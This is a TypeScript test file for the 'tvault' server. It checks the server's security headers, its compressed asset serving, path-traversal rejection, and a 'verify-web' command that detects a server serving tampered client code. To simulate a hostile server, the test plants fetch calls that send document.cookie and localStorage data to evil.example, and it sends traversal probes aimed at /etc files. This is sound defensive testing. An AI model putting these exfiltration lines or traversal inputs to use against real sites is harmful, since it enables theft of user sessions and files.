import { spawn } from 'node:child_process';
import { copyFile, cp, mkdir, mkdtemp, readFile, rm, symlink, writeFile } from 'node:fs/promises';
import http from 'node:http';
import { connect } from 'node:net';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { Writable } from 'node:stream';
import { brotliCompressSync, brotliDecompressSync, gunzipSync, gzipSync } from 'node:zlib';
import t from 'tap';
import { build } from './helper.ts';
import { CONTENT_SECURITY_POLICY } from '../server/src/http/security-headers.ts';
import { EXPECTED_CSP, parseManifest, verifyWeb } from '../cli/src/web-verify.ts';
import { sealBuild } from '../web/build/integrity.ts';

// The web client served by the server (a fixture build, not the real one), its policy
// headers on every kind of answer, compressed answers, and `tvault verify-web` against a
// trusted manifest: it passes, then fails naming the file a hostile server changed, in the
// answer a browser gets or in the one `curl` gets.

const CSP =
  "default-src 'none'; script-src 'self' 'wasm-unsafe-eval'; worker-src 'self'; connect-src 'self'; style-src 'self'; img-src 'self' blob:; media-src 'self' blob:; object-src 'none'; base-uri 'none'; frame-ancestors 'none'; form-action 'self'";

const root = path.resolve(import.meta.dirname, '..');
const work = await mkdtemp(path.join(tmpdir(), 'tvault-web-'));
t.teardown(() => rm(work, { recursive: true, force: true }));
const dist = path.join(work, 'dist');
const APP = '/assets/app-Dx3f9a.js';
// Large enough for the build to write compressed variants of it.
const SCREENS = '/assets/screens-Hq4.js';
const SCREENS_CODE = Array.from({ length: 200 }, (_, i) => `export const screen${i} = () => "pantalla ${i}";`).join('\n');

await mkdir(path.join(dist, 'assets'), { recursive: true });
await writeFile(
  path.join(dist, 'index.html'),
  '<!doctype html><html><head><link rel="stylesheet" crossorigin href="/assets/app-Q2b7.css"><link rel="manifest" href="/app.webmanifest"></head><body><script type="module" crossorigin src="/assets/app-Dx3f9a.js"></script></body></html>\n',
);
await writeFile(path.join(dist, APP), 'console.log("vault");\n');
await writeFile(path.join(dist, 'assets/app-Q2b7.css'), 'body { margin: 0 }\n');
await writeFile(path.join(dist, 'assets/worker-Z1.js'), 'self.onmessage = () => {};\n');
await writeFile(path.join(dist, SCREENS), SCREENS_CODE);
await writeFile(path.join(dist, 'assets/sodium-K9.wasm'), Buffer.from([0, 0x61, 0x73, 0x6d, 1, 0, 0, 0]));
await writeFile(path.join(dist, 'app.webmanifest'), '{"name":"Bóveda"}\n');
await writeFile(path.join(dist, '.env'), 'SECRET=1\n');
await writeFile(path.join(dist, 'assets/.hidden.js'), 'hidden\n');
await symlink('/etc/hostname', path.join(dist, 'linked.txt'));
await sealBuild(dist);
const trusted = path.join(work, 'trusted-manifest.json');
await copyFile(path.join(dist, 'web-manifest.json'), trusted);

const log: string[] = [];
const stream = new Writable({ write(chunk, _enc, done) { log.push(String(chunk)); done(); } });
const server = await build(t, { WEB_DIST_DIR: dist, LOG_LEVEL: 'info' }, { stream });

/** A GET with the path sent as written (inject and fetch would normalise `..`). */
function raw(pathname: string): Promise<{ status: number; headers: http.IncomingHttpHeaders; body: Buffer }> {
  return new Promise((resolve, reject) => {
    const req = http.request(`${server.url}/`, { path: pathname }, (res) => {
      const chunks: Buffer[] = [];
      res.on('data', (c: Buffer) => chunks.push(c));
      res.on('end', () => resolve({ status: res.statusCode ?? 0, headers: res.headers, body: Buffer.concat(chunks) }));
    });
    req.on('error', reject);
    req.end();
  });
}

t.test('the CSP is the one of the issue, and tvault expects the same', async (t) => {
  t.equal(CONTENT_SECURITY_POLICY, CSP);
  t.equal(EXPECTED_CSP, CSP);
});

t.test('the build is served with its types and caching', async (t) => {
  const index = await readFile(path.join(dist, 'index.html'));
  const cases: [string, string, string][] = [
    ['/', 'text/html; charset=utf-8', 'no-cache'],
    ['/index.html', 'text/html; charset=utf-8', 'no-cache'],
    [APP, 'application/javascript; charset=utf-8', 'public, max-age=31536000, immutable'],
    ['/assets/app-Q2b7.css', 'text/css; charset=utf-8', 'public, max-age=31536000, immutable'],
    ['/assets/sodium-K9.wasm', 'application/wasm', 'public, max-age=31536000, immutable'],
    ['/app.webmanifest', 'application/manifest+json', 'no-cache'],
    ['/web-manifest.json', 'application/json; charset=utf-8', 'no-cache'],
  ];
  for (const [url, type, cache] of cases) {
    const res = await server.app.inject({ method: 'GET', url });
    t.equal(res.statusCode, 200, url);
    t.equal(res.headers['content-type'], type, `${url} type`);
    t.equal(res.headers['cache-control'], cache, `${url} caching`);
  }
  t.same((await server.app.inject({ url: '/' })).rawPayload, index, '/ is index.html');
  t.same((await server.app.inject({ url: '/?lang=es' })).rawPayload, index, 'whatever the query');
});

t.test('nothing else is served: API paths, missing files, dotfiles, links, folders, traversal', async (t) => {
  for (const url of ['/v1/nothing-here', '/v1', '/v1/records/x/y/z', '/missing.js', '/assets/missing-1.js', '/.env', '/assets/.hidden.js', '/linked.txt', '/assets', '/assets/', '/records/0f8a-11c2', '/index.html/', '/assets/../index.html', '/assets/%2e%2e/index.html', '/%2e%2e/%2e%2e/etc/hostname', '/..%2f..%2fetc%2fhostname', '/.%2fapp.webmanifest', '//app.webmanifest']) {
    const res = await raw(url);
    t.equal(res.status, 404, `${url}: 404`);
    t.equal((JSON.parse(res.body.toString()) as { code: string }).code, 'VAULT_ERR_ROUTE_NOT_FOUND', `${url}: the error shape`);
  }
  const long = await server.app.inject({ url: `/v1/records/${'a'.repeat(300)}` });
  t.equal(long.json().code, 'VAULT_ERR_VALIDATION', 'the API answers as without the web client');
  t.equal((await raw('/health')).status, 200);
  t.match(JSON.parse((await raw('/openapi.json')).body.toString()), { openapi: String });
  t.equal((await server.app.inject({ method: 'HEAD', url: APP })).statusCode, 404, 'HEAD only on the health checks');
});

t.test('one policy on every answer: API, static file, error, 404, before routing', async (t) => {
  const answers = {
    api: await server.app.inject({ url: '/health' }),
    static: await server.app.inject({ url: APP }),
    page: await server.app.inject({ url: '/' }),
    error: await server.app.inject({ method: 'POST', url: '/v1/auth/login', payload: {} }),
    notFound: await server.app.inject({ url: '/v1/nothing-here' }),
    missingFile: await server.app.inject({ url: '/missing.js' }),
    badUrl: await server.app.inject({ url: '/v1/records/%zz' }),
  };
  t.equal(answers.error.statusCode, 400);
  t.equal(answers.badUrl.statusCode, 400);
  for (const [kind, res] of Object.entries(answers)) {
    t.equal(res.headers['content-security-policy'], CSP, `${kind}: CSP`);
    t.equal(res.headers['cross-origin-opener-policy'], 'same-origin', `${kind}: COOP`);
    t.equal(res.headers['referrer-policy'], 'no-referrer', `${kind}: Referrer-Policy`);
    t.equal(res.headers['x-content-type-options'], 'nosniff', `${kind}: nosniff`);
    t.match(res.headers['permissions-policy'], /^camera=\(self\), microphone=\(\), geolocation=\(\)/, `${kind}: Permissions-Policy`);
  }
  t.equal(answers.static.headers['x-frame-options'], 'DENY');

  // Refused by Node's HTTP parser, answered on the socket before Fastify has a request.
  const parserAnswer = await new Promise<string>((resolve, reject) => {
    const socket = connect(Number(new URL(server.url).port), '127.0.0.1');
    let text = '';
    socket.on('data', (d: Buffer) => (text += d.toString()));
    socket.on('close', () => resolve(text));
    socket.on('error', reject);
    socket.end('GET / HTTP/1.1\r\nHost: x\r\nContent-Length: not-a-number\r\n\r\n');
  });
  t.match(parserAnswer, /^HTTP\/1\.1 400 /);
  t.ok(parserAnswer.includes(`\r\ncontent-security-policy: ${CSP}\r\n`), 'parser refusal: CSP');
});

const BROWSER_ENCODINGS = 'gzip, deflate, br, zstd';

t.test('compressed answers: the variant the browser takes, with the headers of the file', async (t) => {
  const code = Buffer.from(SCREENS_CODE);
  t.ok(brotliDecompressSync(await readFile(path.join(dist, `${SCREENS}.br`))).equals(code), 'the build wrote a brotli variant');
  t.ok(gunzipSync(await readFile(path.join(dist, `${SCREENS}.gz`))).equals(code), 'and a gzip one');
  const manifest = parseManifest(await readFile(trusted, 'utf8'));
  t.notOk(Object.keys(manifest.files).some((f) => /\.(br|gz)$/.test(f)), 'variants are not files of the manifest');

  const cases: [string, string | undefined, (b: Buffer) => Buffer][] = [
    [BROWSER_ENCODINGS, 'br', brotliDecompressSync],
    ['gzip, deflate', 'gzip', gunzipSync],
    ['identity', undefined, (b) => b],
    ['', undefined, (b) => b],
  ];
  for (const [accept, encoding, decode] of cases) {
    const res = await server.app.inject({ url: SCREENS, headers: accept ? { 'accept-encoding': accept } : {} });
    t.equal(res.statusCode, 200);
    t.equal(res.headers['content-encoding'], encoding, `Accept-Encoding "${accept}": ${encoding ?? 'none'}`);
    t.ok(decode(res.rawPayload).equals(code), `"${accept}": the file's bytes once decoded`);
    t.match(res.headers.vary, /accept-encoding/i, `"${accept}": Vary: Accept-Encoding`);
    t.equal(res.headers['content-type'], 'application/javascript; charset=utf-8');
    t.equal(res.headers['cache-control'], 'public, max-age=31536000, immutable');
    t.equal(res.headers['content-security-policy'], CSP);
    if (encoding) t.ok(res.rawPayload.length < code.length / 3, 'smaller on the wire');
  }
  for (const url of [`${SCREENS}.br`, `${SCREENS}.gz`]) t.equal((await raw(url)).status, 404, `${url}: not a file of its own`);
});

t.test('a compressed variant that is not its file is not served', async (t) => {
  const stale = path.join(work, 'stale');
  await cp(dist, stale, { recursive: true });
  await writeFile(path.join(stale, `${SCREENS}.br`), brotliCompressSync('export const screen0 = () => "otra";'));
  const staleLog: string[] = [];
  const other = await build(t, { WEB_DIST_DIR: stale, LOG_LEVEL: 'info' }, { stream: new Writable({ write(chunk, _enc, done) { staleLog.push(String(chunk)); done(); } }) });
  const res = await other.app.inject({ url: SCREENS, headers: { 'accept-encoding': BROWSER_ENCODINGS } });
  t.equal(res.headers['content-encoding'], undefined, 'the file itself, uncompressed');
  t.equal(res.body, SCREENS_CODE);
  t.match(staleLog.join(''), /screens-Hq4\.js.*served uncompressed/, 'the log names the file');
  const page = await other.app.inject({ url: '/', headers: { 'accept-encoding': BROWSER_ENCODINGS } });
  t.equal(page.statusCode, 200, 'the rest is served as before');
});

t.test('logs name route patterns, never the path asked for', async (t) => {
  await server.app.inject({ url: '/records/casa-refugio-testimonio-de-r' });
  await server.app.inject({ url: '/assets/missing-casa-refugio.js' });
  await server.app.inject({ url: APP });
  const text = log.join('');
  t.match(text, /"route":"\/assets\/app-Dx3f9a\.js"/, 'a file is logged by its route');
  t.notMatch(text, /casa-refugio/);
});

t.test('without a build the API runs and / says so', async (t) => {
  const bare = await build(t, { WEB_DIST_DIR: path.join(work, 'not-built') });
  const res = await bare.app.inject({ url: '/' });
  t.equal(res.statusCode, 404);
  t.same(JSON.parse(res.body), { statusCode: 404, code: 'VAULT_ERR_WEB_NOT_BUILT', message: 'the web client is not built on this server; the API works' });
  t.equal(res.headers['content-security-policy'], CSP);
  t.equal((await bare.app.inject({ url: '/health' })).statusCode, 200);
  t.equal((await bare.app.inject({ url: '/records/x' })).statusCode, 404);
});

interface Run {
  code: number;
  stdout: string;
  stderr: string;
}

/** tvault from its sources. */
function tvault(args: string[]): Promise<Run> {
  return new Promise((resolve, reject) => {
    const child = spawn(process.execPath, ['--conditions=@testimony-vault/source', '--import', 'tsx', path.join(root, 'cli/src/main.ts'), ...args], {
      cwd: root,
      env: { ...process.env, TVAULT_HOME: path.join(work, 'home'), LANG: 'en_US.UTF-8', LC_ALL: '' },
      stdio: ['ignore', 'pipe', 'pipe'],
    });
    let stdout = '';
    let stderr = '';
    child.stdout.on('data', (d: Buffer) => (stdout += d.toString()));
    child.stderr.on('data', (d: Buffer) => (stderr += d.toString()));
    child.on('error', reject);
    child.on('close', (code) => resolve({ code: code ?? -1, stdout, stderr }));
  });
}

t.test('verify-web: the audited build passes; a file changed by the server fails, named', async (t) => {
  const manifest = parseManifest(await readFile(trusted, 'utf8'));
  t.same(await verifyWeb(server.url, manifest), { files: 7, differences: [] });
  let r = await tvault(['verify-web', server.url, '--manifest', trusted]);
  t.equal(r.code, 0, r.stderr);
  t.match(r.stdout, /^VERIFIED: .* serves the 7 files of the trusted manifest/);

  // What a hostile server would do: same names, other code.
  await writeFile(path.join(dist, APP), 'fetch("https://evil.example/?k=" + localStorage.key);\n');
  const report = await verifyWeb(server.url, manifest);
  t.match(report.differences, [{ path: APP, problem: 'hash', expected: manifest.files[APP] }]);
  t.equal(report.differences.length, 1);
  r = await tvault(['verify-web', server.url, '--manifest', trusted]);
  t.equal(r.code, 5, 'exit code 5: data does not verify');
  t.match(r.stdout, `DIFFERS: ${APP}: the server serves SHA-256`);
  t.match(r.stderr, /1 difference\(s\): this server does not serve the expected web client/);
  r = await tvault(['--lang', 'es', 'verify-web', server.url]);
  t.equal(r.code, 5, "the server's own manifest no longer matches either");
  t.match(r.stdout, `DIFIERE: ${APP}`);
});

t.test('verify-web: a page at / other than /index.html, a missing policy, a manifest that lies', async (t) => {
  const manifest = parseManifest(await readFile(trusted, 'utf8'));
  const hostile: typeof fetch = async (input, init) => {
    const res = await fetch(input, init);
    const url = new URL(String(input));
    const body = url.pathname === '/' ? '<script src="https://evil.example/x.js"></script>' : await res.arrayBuffer();
    const headers = new Headers(res.headers);
    if (url.pathname === '/app.webmanifest') headers.delete('content-security-policy');
    return new Response(body, { status: res.status, headers });
  };
  const { differences } = await verifyWeb(server.url, manifest, hostile);
  t.same(differences.map((d) => [d.path, d.problem]), [
    ['/app.webmanifest', 'csp'],
    [APP, 'hash'], // changed in the test above
    ['/', 'root'],
  ]);
  for (const lie of [{ version: 1, files: { '//evil.example/x.js': 'a'.repeat(64) } }, { version: 1, files: { '/../etc/passwd': 'a'.repeat(64) } }, { version: 1, files: { '/a.js': 'not hex' } }, { version: 2, files: {} }]) {
    t.throws(() => parseManifest(JSON.stringify(lie)), { name: 'ManifestError' }, JSON.stringify(lie));
  }
  const r = await tvault(['verify-web', 'http://127.0.0.1:9/', '--manifest', trusted]);
  t.equal(r.code, 4, 'a server that does not answer: exit code 4');
  t.match(r.stderr, /^tvault: Cannot reach http:\/\/127\.0\.0\.1:9\//);
});

t.test('verify-web: other code only in the compressed answer a browser gets is caught', async (t) => {
  const manifest = parseManifest(await readFile(trusted, 'utf8'));
  // The server checked its variants at start; a hostile one changes them afterwards, so that
  // `curl` (no Accept-Encoding) gets the audited file and every browser another.
  const hostile = `${SCREENS_CODE}\nfetch("https://evil.example/?k=" + document.cookie);`;
  await writeFile(path.join(dist, `${SCREENS}.br`), brotliCompressSync(hostile));
  await writeFile(path.join(dist, `${SCREENS}.gz`), gzipSync(hostile));
  t.equal((await server.app.inject({ url: SCREENS })).body, SCREENS_CODE, 'curl still gets the audited file');
  const report = await verifyWeb(server.url, manifest);
  const screens = report.differences.filter((d) => d.path === SCREENS);
  t.match(screens, [{ problem: 'hash', encoding: 'br', expected: manifest.files[SCREENS] }], 'the brotli answer, decoded, is named');
  const r = await tvault(['verify-web', server.url, '--manifest', trusted]);
  t.equal(r.code, 5);
  t.match(r.stdout, `DIFFERS: ${SCREENS} (Content-Encoding: br): the server serves SHA-256`);
});

t.test('verify-web: other code only in the gzip answer (what a browser without brotli gets) is caught', async (t) => {
  const manifest = parseManifest(await readFile(trusted, 'utf8'));
  // Chromium offers no brotli over plain HTTP, and some proxies strip it: they get the gzip
  // variant. The brotli one stays audited, so only a separate gzip ask can see the change.
  const hostile = `${SCREENS_CODE}\nfetch("https://evil.example/?k=" + document.cookie);`;
  await writeFile(path.join(dist, `${SCREENS}.br`), brotliCompressSync(SCREENS_CODE));
  await writeFile(path.join(dist, `${SCREENS}.gz`), gzipSync(hostile));
  const report = await verifyWeb(server.url, manifest);
  const screens = report.differences.filter((d) => d.path === SCREENS);
  t.match(screens, [{ problem: 'hash', encoding: 'gzip', expected: manifest.files[SCREENS] }], 'the gzip answer, decoded, is named');
  t.notOk(screens.some((d) => 'encoding' in d && d.encoding === 'br'), 'the brotli answer is not blamed');
});
